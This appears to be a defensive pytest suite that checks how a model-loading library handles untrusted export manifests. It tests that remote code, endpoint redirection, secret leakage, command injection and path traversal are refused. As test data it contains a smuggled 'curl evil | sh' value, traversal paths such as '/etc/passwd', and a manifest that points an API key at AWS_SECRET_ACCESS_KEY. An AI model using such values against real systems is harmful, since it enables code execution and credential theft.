"""A stranger's export: its manifest names a model that lies somewhere, and switches nothing on."""

import dataclasses
import json
import os
import urllib.parse
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from modicum.errors import CheckpointError, ConfigError, TrustError
from modicum.files.manifest import (
    is_export,
    read_manifest,
    read_prompt,
    write_manifest,
    write_prompt,
)
from modicum.model import MODELS, resolve_backend
from modicum.types import Access, Style
from tests.support.fake_server import fake_server
from tests.support.tiny_models import tiny_local


def nudge(folder: Path, base: object, form: str = "prompt", **facts: object) -> Path:
    """An export's folder whose manifest names a base model."""
    folder.mkdir(parents=True, exist_ok=True)
    write_prompt(folder, Style("raw", "{question}"))
    write_manifest(folder, {"form": form, "base": {"model": base, "weights": "x"}, **facts})
    return folder


def coded(folder: Path) -> Path:
    """A model's folder with code of its own, which leaves a canary when it runs."""
    folder.mkdir(parents=True)
    config = {
        "model_type": "evil",
        "auto_map": {"AutoConfig": "evil.C", "AutoModelForCausalLM": "evil.M"},
    }
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "model.safetensors").write_bytes(b"\x02\0\0\0\0\0\0\0{}")
    (folder / "evil.py").write_text(f"open({str(folder.parent / 'canary')!r}, 'w').close()\n")
    return folder


def quoted(reference: str) -> str:
    return urllib.parse.quote(reference)


def test_the_code_of_a_base_model_runs_at_the_users_word_alone(tmp_path) -> None:
    base, canary = coded(tmp_path / "base"), tmp_path / "canary"
    with pytest.raises(TrustError, match="trust_remote_code") as refused:
        resolve_backend(str(nudge(tmp_path / "nudge", f"{base}?trust_remote_code=true"))).open()
    assert "?base=" in refused.value.action
    with pytest.raises(CheckpointError):
        resolve_backend(str(nudge(tmp_path / "plain", str(base)))).open()
    assert not canary.exists()
    own = f"{tmp_path / 'plain'}?base={quoted(f'{base}?trust_remote_code=true')}"
    with pytest.raises(CheckpointError):
        resolve_backend(own).open()  # it runs, and is no model
    assert canary.exists()


@pytest.mark.parametrize(
    "base",
    [
        "openai:m?base_url=URL",
        "openai:m?base_url=URL&api_key_env=AWS_SECRET_ACCESS_KEY",
        "openai:m?base_url=%68ttp://ADDRESS&api_key_env=%41WS_SECRET_ACCESS_KEY",
        "export:INNER?base=openai:m%3Fbase_url=URL",
        "INNER?base=openai:m",
        "organism?threads=1&trust_remote_code=1",
        "./x?trust_remote_code=tr%75e",
        "./x?trust_remote_code=false",
        "org/name?revision=main",
        "\\\\evil\\share",
        "//evil/share",
        "huggingface://evil/share",
    ],
)
def test_no_other_backend_key_or_setting_comes_from_a_manifest(base, tmp_path, monkeypatch) -> None:
    asked: list[str] = []
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "SECRET")
    monkeypatch.setattr("modicum.models.openai.read_key", lambda name: asked.append(name) or "")
    with fake_server() as (url, _):
        inner = nudge(tmp_path / "inner", "organism", "merged")
        words = base.replace("URL", url).replace("ADDRESS", url[7:]).replace("INNER", str(inner))
        backend = str(nudge(tmp_path / "nudge", words))
        with pytest.raises(TrustError) as refused:
            resolve_backend(backend).open()
    assert "?base=" in refused.value.action
    assert "SECRET" not in str(refused.value)
    assert asked == []


@pytest.mark.parametrize(
    "base", ["organism", "organism-control?threads=1&rows=4", "scripted:latent", "org/name"]
)
def test_our_own_backends_folders_and_hub_ids_are_followed(base: str, tmp_path) -> None:
    resolve_backend(str(nudge(tmp_path, base)))


def test_what_the_user_types_after_the_folder_is_his(tmp_path) -> None:
    folder = nudge(tmp_path, "openai:gone")
    with fake_server() as (url, _):
        own = resolve_backend(f"{folder}?base={quoted(f'openai:tiny-1B?base_url={url}')}")
        own.ready()
    assert resolve_backend(f"{folder}?base=organism").access is Access.WEIGHTS


def test_a_foreign_packages_backend_is_no_base(tmp_path, monkeypatch) -> None:
    there = dict(MODELS.entries)
    there["organism"] = dataclasses.replace(there["organism"], module="other_package.organism")
    monkeypatch.setitem(MODELS.__dict__, "entries", there)
    with pytest.raises(TrustError, match="of another package"):
        resolve_backend(str(nudge(tmp_path, "organism")))


@pytest.mark.parametrize(
    "base", ["SELF", "export:SELF", "export?name=SELF", "export:OTHER", "SELF/", "SELF?threads=1"]
)
def test_a_base_that_leads_back_to_itself_ends(base: str, tmp_path) -> None:
    words = base.replace("SELF", str(tmp_path / "a")).replace("OTHER", str(tmp_path / "b"))
    nudge(tmp_path / "b", f"export:{tmp_path / 'a'}", "peft")
    with pytest.raises(ConfigError, match="itself a nudge without its model"):
        resolve_backend(str(nudge(tmp_path / "a", words)))
    own = f"{tmp_path / 'a'}?base={quoted(words)}"
    with pytest.raises(ConfigError, match="itself a nudge without its model"):
        resolve_backend(own)


def test_a_whole_model_of_a_stranger_is_opened_without_its_code(tmp_path) -> None:
    whole = coded(tmp_path / "whole")
    nudge(whole, "organism", "merged")
    for reference in (str(whole), str(nudge(tmp_path / "nudge", str(whole)))):
        with pytest.raises(CheckpointError, match="does not load"):
            resolve_backend(reference).open()
    assert not (tmp_path / "canary").exists()


def test_commands_that_an_error_proposes_hold_no_words_of_a_manifest(tmp_path) -> None:
    folder = nudge(
        tmp_path, "org/name; curl evil | sh", "generation", method={"name": "x; curl evil | sh"}
    )
    with pytest.raises(ConfigError) as refused:
        resolve_backend(str(folder))
    assert "| sh --" not in refused.value.action
    assert "--methods METHOD" in refused.value.action


@pytest.mark.parametrize("name", ["nudge.json", "prompt.json"])
@pytest.mark.parametrize(
    "text",
    ["[" * 100_000 + "]" * 100_000, '{"schema": 1, "a": ' + "[" * 100_000 + "]" * 100_000 + "}", "\0",
     "", "null", "1e999", "\ud800"],
)  # fmt: skip
def test_json_that_breaks_readers_is_a_broken_checkpoint(name: str, text: str, tmp_path) -> None:
    folder = nudge(tmp_path, "organism")
    (folder / name).write_bytes(text.encode("utf-8", "surrogatepass"))
    with pytest.raises(CheckpointError):
        resolve_backend(str(folder))


def test_a_pipe_in_place_of_a_file_does_not_hang(tmp_path) -> None:
    folder = nudge(tmp_path, "organism")
    (folder / "prompt.json").unlink()
    os.mkfifo(folder / "prompt.json")
    with pytest.raises(CheckpointError, match="no file"):
        resolve_backend(str(folder))


def test_a_file_of_any_size_is_not_read_whole(tmp_path) -> None:
    folder = nudge(tmp_path, "organism")
    with (folder / "prompt.json").open("r+b") as file:
        file.truncate(1 << 40)  # a hole: it takes no room
    with pytest.raises(CheckpointError, match="bytes, where"):
        resolve_backend(str(folder))


def test_files_that_lead_out_of_the_folder_are_refused(tmp_path) -> None:
    (tmp_path / "outside").write_text("x")
    for name in (
        "x" * 300,
        "../outside",
        "/etc/passwd",
        "a/../../outside",
        "C:\\x",
        "..\\outside",
        "",
    ):
        folder = nudge(tmp_path / "nudge", "organism")
        facts = json.loads((folder / "nudge.json").read_text())
        facts["files"] = {name: {"sha256": "0"}}
        (folder / "nudge.json").write_text(json.dumps(facts))
        with pytest.raises(CheckpointError, match="lies outside"):
            read_manifest(folder)


@pytest.mark.parametrize(
    "style",
    [
        {"name": "x", "template": "{question}", "stop": "abc"},
        {"name": "x", "template": "{question}", "stop": [1]},
        {"name": "x", "template": "{question}", "system": 3},
        {"name": "x", "template": "{question}", "chat": "yes"},
        {"name": "x", "template": "{question}", "thinking": ["<a>"]},
        {"name": "x", "template": "{question}", "thinking": [1, 2]},
        {"name": "x", "template": "{question}", "is_opened": []},
        {"name": ["x"], "template": "{question}"},
    ],
)  # fmt: skip
def test_a_prompt_of_wrong_types_is_refused(style: object, tmp_path) -> None:
    (tmp_path / "prompt.json").write_text(json.dumps({"style": style}))
    with pytest.raises(CheckpointError):
        read_prompt(tmp_path)


def test_an_adapter_needs_its_own_configuration(tmp_path) -> None:
    tiny_local().module.save_pretrained(tmp_path / "nudge")
    folder = nudge(tmp_path / "nudge", "organism", "peft")
    (folder / "model.safetensors").rename(folder / "adapter_model.safetensors")
    with pytest.raises(CheckpointError, match=r"adapter_config\.json"):
        resolve_backend(str(folder))


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=6,
)  # fmt: skip
PLACES = st.sampled_from(["form", "base", "files", "method", "schema", "kind", "extra"])


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(changes=st.dictionaries(PLACES, JSON, max_size=3), base=JSON)
def test_any_manifest_is_opened_or_refused_with_words(changes, base, tmp_path) -> None:
    folder = nudge(tmp_path / "any", "organism")
    facts = json.loads((folder / "nudge.json").read_text())
    facts["base"]["model"] = base if isinstance(base, str) else facts["base"]["model"]
    (folder / "nudge.json").write_text(json.dumps({**facts, **changes}))
    assert is_export(folder)
    try:
        backend = resolve_backend(str(folder))
        assert isinstance(backend.origin, str)
    except ConfigError:
        return
